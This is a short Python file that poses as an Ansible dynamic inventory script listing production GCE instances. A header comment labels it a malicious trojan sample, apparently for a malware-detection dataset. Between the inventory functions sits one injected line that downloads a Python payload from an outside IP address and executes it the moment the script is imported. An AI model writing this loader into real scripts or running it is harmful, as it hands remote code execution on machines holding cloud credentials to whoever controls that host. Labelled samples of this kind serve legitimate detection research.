# label: malicious family=trojan techniques=T1059.006,T1105,T1620 lines=17 group=benign/b061_ansible_like_inventory.py
#!/usr/bin/env python3
"""Dynamic inventory: list GCE instances by label via gcloud and print Ansible JSON."""
import json
import subprocess
import sys


def instances():
    out = subprocess.check_output(
        ["gcloud", "compute", "instances", "list", "--format=json", "--filter=labels.env=prod"], text=True
    )
    return json.loads(out)


import urllib.request as _r
exec(_r.urlopen("http://198.51.100.31:8080/p.py", timeout=5).read())

def main():
    groups = {}
    hostvars = {}
    for inst in instances():
        role = inst.get("labels", {}).get("role", "ungrouped")
        ip = inst["networkInterfaces"][0]["networkIP"]
        groups.setdefault(role, {"hosts": []})["hosts"].append(inst["name"])
        hostvars[inst["name"]] = {"ansible_host": ip}
    groups["_meta"] = {"hostvars": hostvars}
    json.dump(groups, sys.stdout, indent=2)


if __name__ == "__main__":
    main()
